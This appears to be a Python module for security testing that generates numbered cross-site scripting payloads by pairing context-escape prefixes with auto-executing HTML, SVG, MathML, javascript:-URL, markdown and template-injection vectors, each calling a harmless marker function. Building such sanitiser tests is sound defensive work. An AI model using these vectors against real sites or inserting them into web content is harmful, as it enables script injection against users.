"""Texts that would run if a page let them, each with a number of its own.

A payload is a way out of where a text may stand (an attribute, a title, a script, a comment …),
then something that runs by itself, then a mark `<pwned-N>`: where it becomes an element, a page has
let markup through even if nothing ran. There are more than 2,000; `payload(number)` tells one.
"""

from itertools import product

WAYS_OUT = (
    "", '">', "'>", "`>", '"/>', "</a>", "-->", "]]>", "?>", "*/", "</title>", "</textarea>",
    "</script>", "</style>", "</option></select>", "</svg>", "</math>", "</template>",
    "</noscript>", "</iframe>", "</button>", "</details>", "</table>", "&quot;>", "%22%3E",
    "\\\">", "\\u0022>", "\u2028", "\ufeff", "\r\n\r\n",
)  # fmt: skip
CALL = "pwned({n})"
RUNNERS = (
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script src=data:,{call}></script>",
    "<script type=module>{call}</script>",
    "<img src=x onerror={call}>",
    "<img src=x onerror='{call}'>",
    '<img src="x" onerror="{call}">',
    "<img/src/onerror={call}>",
    "<IMG SRC=x ONERROR={call}>",
    "<img src=x:x\tonerror\t=\t{call}>",
    "<image src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg/onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={call} attributeName=x></svg>",
    "<svg><a xlink:href=javascript:{call}><text y=9>x</text></a></svg>",
    "<svg><style><img src=x onerror={call}></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={call}>",
    "<math><maction xlink:href=javascript:{call}>x</maction></math>",
    "<body onload={call}>",
    "<body onpageshow={call}>",
    "<input autofocus onfocus={call}>",
    "<textarea autofocus onfocus={call}></textarea>",
    "<select autofocus onfocus={call}></select>",
    "<button autofocus onfocus={call}>x</button>",
    "<p tabindex=1 autofocus onfocus={call}>x</p>",
    "<details open ontoggle={call}>x</details>",
    "<video><source onerror={call}></video>",
    "<video src=x onerror={call}></video>",
    "<audio src=x onerror={call}></audio>",
    "<object data=javascript:{call}></object>",
    "<object data=x onerror={call}></object>",
    "<embed src=javascript:{call}>",
    "<iframe src=javascript:{call}></iframe>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe onload={call}></iframe>",
    "<link rel=stylesheet href=x onerror={call}>",
    "<link rel=preload as=image href=x onerror={call}>",
    "<style onload={call}></style>",
    "<style>@import 'x';</style><img src=x onerror={call}>",
    "<meta http-equiv=refresh content='0;javascript:{call}'>",
    "<base href=//pwned.example/>",
    "<form action=javascript:{call}><button>x</button></form>",
    "<button formaction=javascript:{call}>x</button>",
    "<a href=javascript:{call}>x</a>",
    "<a href='java\tscript:{call}'>x</a>",
    "<a href=&#106;avascript:{call}>x</a>",
    "<a href=data:text/html,<script>{call}</script>>x</a>",
    "<marquee onstart={call}>x</marquee>",
    "<div style=animation-name:x onanimationstart={call}>x</div>",
    "<div onmouseover={call}>x</div>",
    "<div onpointerenter={call}>x</div>",
    "<xss contenteditable onbeforeinput={call}>x</xss>",
    "<table background=javascript:{call}>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template><img src=x onerror={call}></template>",
    "<dialog open onclose={call}><form method=dialog><button autofocus>x</button></form></dialog>",
    " onmouseover={call} x=",
    "' onmouseover='{call}' x='",
    '" onmouseover="{call}" x="',
    '" autofocus onfocus="{call}" x="',
    " autofocus onfocus={call} x=",
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\nscript:{call}",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "[x](javascript:{call})",
    "[x](JAVASCRIPT&colon;{call})",
    "![x](x' onerror='{call})",
    "<javascript:{call}>",
    "[x]: javascript:{call}\n\n[x]",
    "**<img src=x onerror={call}>**",
    "{{{{ self.__init__.__globals__ }}}} {call}",
    "{{% print({n}) %}} ${{{call}}} #{{{call}}} <%= {call} %>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "\x3cscript\x3e{call}\x3c/script\x3e",
    "\u202e<script>{call}</script>",
)
ALL = tuple(product(WAYS_OUT, RUNNERS))
COUNT = len(ALL)


def payload(number):
    """The text with this number; numbers go on after the last one, so that each stays its own."""
    way, runner = ALL[number % COUNT]
    return way + runner.format(call=CALL.format(n=number), n=number) + f"<pwned-{number}>"
